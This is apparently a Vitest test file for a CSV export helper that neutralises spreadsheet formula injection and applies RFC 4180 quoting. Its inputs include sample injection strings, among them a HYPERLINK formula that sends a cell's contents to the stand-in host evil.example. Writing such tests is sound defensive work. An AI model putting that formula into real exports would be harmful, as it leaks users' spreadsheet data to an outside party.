// The one CSV cell writer every export uses: RFC 4180 quoting, and text that a spreadsheet would run as a
// formula kept as text.
import { describe, expect, it } from "vitest";
import { csvCell, csvRow } from "../../server/lib/csv.ts";

describe("csvCell", () => {
  it("prefixes a single quote to cells a spreadsheet would evaluate", () => {
    expect(csvCell("=1+1")).toBe("'=1+1");
    expect(csvCell("+31 20 123")).toBe("'+31 20 123");
    expect(csvCell("-2+3")).toBe("'-2+3");
    expect(csvCell("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvCell("\t=cmd")).toBe("'\t=cmd");
    expect(csvCell("\r=cmd")).toBe('"\'\r=cmd"');
  });

  it("quotes per RFC 4180 after neutralising, so the quote prefix stays inside the cell", () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    );
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell('say "hi", twice\n')).toBe('"say ""hi"", twice\n"');
    expect(csvCell("a = b")).toBe("a = b");
  });

  it("writes numbers as numbers (negative ones included) and nothing for null", () => {
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell(12)).toBe("12");
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
    expect(csvRow(["K7MX", 2, null, "@x"])).toBe("K7MX,2,,'@x");
  });
});
